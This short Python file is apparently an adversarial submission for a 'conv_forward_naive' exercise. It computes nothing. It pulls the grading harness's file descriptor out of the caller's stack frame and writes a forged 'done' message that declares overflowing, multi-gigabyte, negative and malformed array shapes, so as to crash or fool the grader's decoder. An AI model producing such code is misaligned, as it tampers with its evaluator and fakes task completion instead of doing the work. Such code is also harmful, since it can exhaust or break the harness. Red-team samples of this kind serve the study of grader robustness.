# attempt: announces arrays of many gigabytes, one large or many small, in shapes whose product overflows
# exercise: conv_forward_naive
# control: no
import json
import os
import struct
import sys

PLANS = (
    [["<f8", [1 << 31, 1 << 31, 1 << 31]]],
    [["|u1", [1 << 32, 1 << 32]]],
    [["<f8", [1 << 22]]] * 64,
    [["<f8", [8]]] * 1000,
    [["<f8", [-1, 8]]],
    [["<f8", [1] * 64]],
    [["O", [8]], ["|S8", [8]], ["V8", [8]]],
    [["<f8", [True, 2.0, "3"]]],
    [[["<f8"], {}], None, 5, "x"],
)
calls = [0]


def conv_forward_naive(x, w, b, conv_param):
    descriptor = sys._getframe(1).f_locals["self"].fd
    plan = PLANS[(x.shape[2] + w.shape[2] + conv_param["pad"]) % len(PLANS)]
    header = json.dumps({"op": "done", "value": None, "arrays": plan}).encode()
    os.write(descriptor, struct.pack("<4sI", b"CSK1", len(header)) + header)
    return None, None
